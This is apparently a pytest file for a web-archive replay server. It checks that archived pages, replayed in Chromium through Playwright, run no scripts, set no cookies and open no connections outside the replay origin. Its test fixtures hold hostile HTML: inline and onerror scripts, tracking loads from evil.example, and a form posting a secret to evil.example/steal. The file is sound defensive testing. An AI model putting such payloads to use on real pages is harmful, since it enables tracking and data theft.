"""A hostile archived page replayed in a real browser (Debian's chromium through Playwright)
from a real uvicorn server on 127.0.0.1: nothing it tries gets out.

The page sets a marker from an inline script, loads a script and an image from another host,
sends a cookie and has a form posting to another host. Replayed, no script may run, no
request may leave the replay origin, no cookie may be set, and its text must be visible.

A second page names a listener on another 127.0.0.1 port (the outside host) in every kind of
resource hint, an iframe and Link headers: neither replay mode may make the browser open
even a TCP connection to it.
"""

from __future__ import annotations

import socket
import threading
from collections.abc import Callable, Iterator
from datetime import UTC, datetime
from pathlib import Path
from typing import Any

import pytest
import uvicorn

from archive.replay.app import create_replay_app
from archive.store.db import Archive
from archive.warc.reader import list_warcs
from archive.warc.writer import Exchange, RotatingWarcWriter
from crawler.ingest import ingest_files

ARTIFACTS = Path(__file__).resolve().parent / "artifacts"
WHEN = datetime(2024, 5, 4, 10, 30, tzinfo=UTC)
TS = "20240504103000"
URL = "http://hostile.test/story.html"

HOSTILE = """<!DOCTYPE html>
<html><head><title>Archived story</title>
<link rel="stylesheet" href="/style.css">
<script>document.documentElement.setAttribute("data-pwned", "inline");
document.cookie = "script_cookie=1; path=/";</script>
<script src="http://evil.example/track.js"></script>
</head><body>
<h1>Ceasefire talks resume in Geneva</h1>
<p id="lead">Delegations met for six hours on Tuesday.</p>
<img src="http://evil.example/pixel.gif" alt="">
<img src="https://cdn.evil.example/photo.jpg" srcset="https://cdn.evil.example/photo2.jpg 2x">
<form id="f" action="https://evil.example/steal" method="post">
<input name="q" value="secret"><button id="go" type="submit">Send</button></form>
<a id="out" href="https://evil.example/elsewhere">elsewhere</a>
<iframe src="https://evil.example/frame.html"></iframe>
<div style="background-image: url(https://evil.example/bg.png)">styled</div>
<img src="x" onerror="document.documentElement.setAttribute('data-pwned', 'onerror')">
</body></html>
"""


@pytest.fixture(scope="module")
def replay_server(tmp_path_factory: pytest.TempPathFactory,
                  free_port: Callable[[], int]) -> Iterator[str]:
    data = tmp_path_factory.mktemp("hostile")
    writer = RotatingWarcWriter(data / "warcs", "hostile", host="h")
    meta = {"source": "hostile", "kind": "other"}
    writer.write_exchange(Exchange(
        URL, "GET", "/story.html", (), "HTTP/1.1", 200, "OK",
        (("Content-Type", "text/html; charset=utf-8"),
         ("Set-Cookie", "tracker=abc123; Path=/; Max-Age=31536000"),
         ("Set-Cookie", "session=s1; Path=/; HttpOnly"),
         ("Content-Security-Policy", "script-src * 'unsafe-inline'"),
         ("Access-Control-Allow-Origin", "*")),
        HOSTILE.encode(), WHEN, metadata=meta))
    writer.write_exchange(Exchange(
        "http://hostile.test/style.css", "GET", "/style.css", (), "HTTP/1.1", 200, "OK",
        (("Content-Type", "text/css"),),
        b"h1 { color: rgb(128, 0, 0); background: url(https://evil.example/h1.png) }",
        WHEN, metadata=meta))
    writer.close()
    with Archive(data / "archive.db") as archive:
        ingest_files(archive, list_warcs(data / "warcs"), None, workers=1)
    yield from _serve(data, free_port())


def test_hostile_page_replays_with_nothing_escaping(replay_server: str, browser: Any) -> None:
    ARTIFACTS.mkdir(exist_ok=True)
    requests: list[str] = []
    context = browser.new_context()
    try:
        page = context.new_page()
        page.on("request", lambda request: requests.append(request.url))
        response = page.goto(f"{replay_server}/replay/{TS}/{URL}")
        assert response is not None
        assert response.status == 200
        page.wait_for_load_state("load")
        # The archived text is there, and the archived stylesheet loaded from the archive.
        assert page.locator("h1").inner_text() == "Ceasefire talks resume in Geneva"
        assert page.locator("#lead").is_visible()
        assert page.eval_on_selector("h1", "e => getComputedStyle(e).color") == \
            "rgb(128, 0, 0)"
        page.screenshot(path=str(ARTIFACTS / "replay-hostile.png"), full_page=True)
        # Neither the inline script nor the onerror handler ran; no cookie got through.
        assert page.evaluate("document.documentElement.getAttribute('data-pwned')") is None
        assert context.cookies() == []
        # Submitting the form or following a link stays inside the archive (or nowhere).
        page.click("#go")
        page.wait_for_load_state("load")
        assert page.url == f"{replay_server}/replay/{TS}/{URL}"  # sandbox: no submit
        page.click("#out")
        page.wait_for_load_state("load")
        page.screenshot(path=str(ARTIFACTS / "replay-hostile-link.png"))
        assert "Not in the archive" in page.content()
        cookies = context.cookies()
    finally:
        context.close()
    assert cookies == []
    assert requests, "the browser made no request at all"
    outside = [u for u in requests if not u.startswith(replay_server + "/")]
    assert outside == []
    assert f"{replay_server}/replay/{TS}/http://hostile.test/style.css" in requests
    assert not any(u.endswith("/https://evil.example/steal") for u in requests)


# --------------------------------------------------------------------------- resource hints

HINTS_URL = "http://hostile.test/hints.html"
HINTS = """<!DOCTYPE html>
<html><head><title>Hints</title>
<link rel="preconnect" href="http://127.0.0.1:{port}/">
<link rel="preconnect" href="//127.0.0.1:{port}" crossorigin>
<link rel="dns-prefetch" href="http://127.0.0.1:{port}/">
<link rel="prefetch" href="http://127.0.0.1:{port}/next.html">
<link rel="preload" as="image" href="http://127.0.0.1:{port}/hero.jpg">
<link rel="preload" as="image" imagesrcset="http://127.0.0.1:{port}/hero2.jpg 2x">
<link rel="modulepreload" href="http://127.0.0.1:{port}/app.mjs">
<link rel="stylesheet" href="http://127.0.0.1:{port}/site.css">
</head><body><h1>Hints</h1>
<iframe src="http://127.0.0.1:{port}/frame.html"></iframe>
<img src="http://127.0.0.1:{port}/pixel.gif" alt="">
<video poster="http://127.0.0.1:{port}/poster.jpg"></video>
</body></html>
"""


class Outside:
    """A TCP listener on another 127.0.0.1 port standing in for an outside host: it counts
    every connection a browser opens to it (a preconnect opens one without a request)."""

    def __init__(self) -> None:
        self.sock = socket.socket()
        self.sock.bind(("127.0.0.1", 0))
        self.sock.listen(16)
        self.sock.settimeout(0.1)
        self.port = self.sock.getsockname()[1]
        self.connections = 0
        self.stop = threading.Event()
        self.thread = threading.Thread(target=self._accept, daemon=True)
        self.thread.start()

    def _accept(self) -> None:
        while not self.stop.is_set():
            try:
                conn, _ = self.sock.accept()
            except TimeoutError:
                continue
            self.connections += 1
            conn.close()

    def close(self) -> None:
        self.stop.set()
        self.thread.join()
        self.sock.close()


@pytest.fixture(scope="module")
def outside() -> Iterator[Outside]:
    listener = Outside()
    yield listener
    listener.close()


@pytest.fixture(scope="module")
def hints_server(tmp_path_factory: pytest.TempPathFactory, free_port: Callable[[], int],
                 outside: Outside) -> Iterator[str]:
    data = tmp_path_factory.mktemp("hints")
    writer = RotatingWarcWriter(data / "warcs", "hints", host="h")
    port = outside.port
    writer.write_exchange(Exchange(
        HINTS_URL, "GET", "/hints.html", (), "HTTP/1.1", 200, "OK",
        (("Content-Type", "text/html; charset=utf-8"),
         ("Link", f"<http://127.0.0.1:{port}/>; rel=preconnect"),
         ("Link", f"<http://127.0.0.1:{port}/h.css>; rel=preload; as=style")),
        HINTS.format(port=port).encode(), WHEN,
        metadata={"source": "hints", "kind": "other"}))
    writer.close()
    with Archive(data / "archive.db") as archive:
        ingest_files(archive, list_warcs(data / "warcs"), None, workers=1)
    yield from _serve(data, free_port())


def _serve(data: Path, port: int) -> Iterator[str]:
    server = uvicorn.Server(uvicorn.Config(create_replay_app(data), host="127.0.0.1",
                                           port=port, log_level="warning"))
    thread = threading.Thread(target=server.run, daemon=True)
    thread.start()
    while not server.started:
        if not thread.is_alive():
            pytest.fail("uvicorn did not start")
        threading.Event().wait(0.02)
    yield f"http://127.0.0.1:{port}"
    server.should_exit = True
    thread.join()


def test_raw_replay_is_saved_not_rendered_and_contacts_no_outside_host(
        hints_server: str, outside: Outside, browser: Any) -> None:
    from playwright.sync_api import Error

    before = outside.connections
    context = browser.new_context(accept_downloads=True)
    try:
        page = context.new_page()
        # Chromium ends a navigation that became a download with this error.
        with page.expect_download() as info, pytest.raises(Error, match="Download is starting"):
            page.goto(f"{hints_server}/replay/{TS}id_/{HINTS_URL}")
        saved = Path(info.value.path()).read_bytes()
        # Then a page the browser does render, so that any hint of the raw one had time to
        # act; networkidle waits for the network to be quiet, not for the wall clock.
        page.goto(f"{hints_server}/replay/*/{HINTS_URL}")
        page.wait_for_load_state("networkidle")
    finally:
        context.close()
    assert saved == HINTS.format(port=outside.port).encode()  # the bytes as archived
    assert outside.connections == before


def test_rewritten_replay_contacts_no_outside_host(hints_server: str, outside: Outside,
                                                   browser: Any) -> None:
    before = outside.connections
    context = browser.new_context()
    try:
        page = context.new_page()
        response = page.goto(f"{hints_server}/replay/{TS}/{HINTS_URL}")
        assert response is not None
        assert response.status == 200
        page.wait_for_load_state("networkidle")
        assert page.locator("h1").inner_text() == "Hints"
    finally:
        context.close()
    assert outside.connections == before
